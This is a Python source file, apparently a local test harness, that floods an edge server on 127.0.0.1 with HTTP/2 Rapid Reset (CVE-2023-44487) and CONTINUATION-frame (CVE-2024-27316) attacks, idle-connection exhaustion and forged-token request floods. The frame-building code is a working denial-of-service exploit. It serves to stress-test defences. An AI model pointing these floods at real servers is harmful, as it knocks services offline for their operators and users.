"""What floods: each is a program of its own, `flooders.py KIND PORT [CONNECTIONS]`, that goes on until it is told to stop.

Attackers come from many addresses, 127.0.0.2 and up, so that a limit for one address does not decide; `--one-address` has
them come from one. All bytes are made before they are sent: what is measured is the edge, not this.
"""

import argparse
import selectors
import socket
import struct
import time

DATA, HEADERS, RST_STREAM, SETTINGS, CONTINUATION = 0, 1, 3, 4, 9
END_STREAM, END_HEADERS = 1, 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
ADDRESSES = 50


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """RFC 9113 §4.1."""
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def head(path: bytes) -> bytes:
    """GET, http, localhost; literals without indexing (RFC 7541 §6.2.2)."""
    return b"\x82\x86\x04" + literal(path) + b"\x01" + literal(b"localhost")


def literal(text: bytes) -> bytes:
    if len(text) < 127:
        return bytes([len(text)]) + text
    rest, encoded = len(text) - 127, b"\x7f"
    while rest >= 128:
        encoded += bytes([rest % 128 + 128])
        rest //= 128
    return encoded + bytes([rest]) + text


class Crowd:
    """Connections from many addresses; closed ones are replaced."""

    def __init__(self, port: int, one_address: bool) -> None:
        self.port, self.one_address, self.opened = port, one_address, 0

    def connect(self) -> socket.socket | None:
        number = 0 if self.one_address else self.opened % ADDRESSES
        self.opened += 1
        client = socket.socket()
        try:
            client.setsockopt(socket.IPPROTO_IP, 24, 1)  # IP_BIND_ADDRESS_NO_PORT
            client.bind((f"127.0.0.{2 + number}", 0))
            client.settimeout(1)
            client.connect(("127.0.0.1", self.port))
            return client
        except OSError:
            client.close()
            return None


def pour(crowd: Crowd, content: bytes, per_second: int) -> None:
    """Connects, sends all of `content` as fast as it is taken, closes; so many times a second."""
    begin, done = time.monotonic(), 0
    while True:
        client = crowd.connect()
        if client:
            try:
                client.sendall(content)
            except OSError:
                pass
            client.close()
        done += 1
        time.sleep(max(0.0, begin + done / per_second - time.monotonic()))


def resets(crowd: Crowd, connections: int, path: bytes) -> None:
    """Rapid reset (CVE-2023-44487): 200 streams a connection, each reset right after its head."""
    content = PREFACE + frame(SETTINGS, 0, 0, b"")
    for stream in range(1, 401, 2):
        content += frame(HEADERS, END_STREAM | END_HEADERS, stream, head(path))
        content += frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
    pour(crowd, content, connections)


def slow_resets(crowd: Crowd, connections: int, path: bytes) -> None:
    """Below every limit of resets: one stream at a time, given time to begin, 10 000 a second over all connections."""
    begin, done, clients = time.monotonic(), 0, []
    while True:
        while len(clients) < connections:
            client = crowd.connect()
            if client:
                client.sendall(PREFACE + frame(SETTINGS, 0, 0, b""))
                client.setblocking(False)
                clients.append([client, 1])
        for entry in list(clients):
            client, stream = entry
            pair = frame(HEADERS, END_STREAM | END_HEADERS, stream, head(path))
            pair += frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
            entry[1] += 2
            done += 1
            try:
                client.send(pair)
                client.recv(65536)
            except BlockingIOError:
                pass
            except OSError:
                client.close()
                clients.remove(entry)
        time.sleep(max(0.0, begin + done / 10_000 - time.monotonic()))


def continuations(crowd: Crowd, connections: int, path: bytes) -> None:
    """CONTINUATION frames without end (CVE-2024-27316 and kin): up to 2 MB for each head."""
    field = b"\x00\x01a" + literal(b"b" * 1000)
    content = PREFACE + frame(SETTINGS, 0, 0, b"") + frame(HEADERS, END_STREAM, 1, head(path))
    content += frame(CONTINUATION, 0, 1, field) * 2000
    pour(crowd, content, connections)


def idle(crowd: Crowd, connections: int, path: bytes) -> None:
    """So many connections of HTTP/2 that say no more than its preface; those that the edge closes are opened again."""
    selector, count = selectors.DefaultSelector(), 0
    begin = time.monotonic()
    while True:
        batch = 0
        while count < connections and batch < 50:
            batch += 1
            client = crowd.connect()
            if client:
                client.sendall(PREFACE + frame(SETTINGS, 0, 0, b""))
                client.setblocking(False)
                selector.register(client, selectors.EVENT_READ)
                count += 1
        for key, _ in selector.select(0):
            try:
                ended = not key.fileobj.recv(4096)
            except OSError:
                ended = True
            if ended:
                selector.unregister(key.fileobj)
                key.fileobj.close()
                count -= 1
        # At most 2 000 new connections a second.
        time.sleep(0.025)
        if count >= connections and begin:
            print(f"ready after {time.monotonic() - begin:.1f} s", flush=True)
            begin = 0


def invalid(crowd: Crowd, connections: int, path: bytes) -> None:
    """10 000 requests a second, each with another token that no key made, ten of them at a time."""
    begin, done, clients = time.monotonic(), 0, []
    while True:
        while len(clients) < connections:
            client = crowd.connect()
            if client:
                clients.append(client)
        for client in list(clients):
            batch = b""
            for number in range(done, done + 10):
                token = f"exp=4102444800~acl=/*~hmac={number:064x}"
                batch += f"GET /vod/master.m3u8?hdnts={token} HTTP/1.1\r\nhost: localhost\r\n\r\n".encode()
            done += 10
            try:
                client.sendall(batch)
                if not client.recv(65536):
                    raise OSError
            except OSError:
                # Closed after the last request that a connection may have.
                client.close()
                clients.remove(client)
            time.sleep(max(0.0, begin + done / 10_000 - time.monotonic()))


KINDS = {"resets": resets, "slow-resets": slow_resets, "continuations": continuations, "idle": idle, "invalid": invalid}

if __name__ == "__main__":
    parser = argparse.ArgumentParser()
    parser.add_argument("kind", choices=KINDS)
    parser.add_argument("port", type=int)
    parser.add_argument("connections", type=int)
    parser.add_argument("--path", default="/")
    parser.add_argument("--one-address", action="store_true")
    arguments = parser.parse_args()
    KINDS[arguments.kind](
        Crowd(arguments.port, arguments.one_address), arguments.connections, arguments.path.encode()
    )
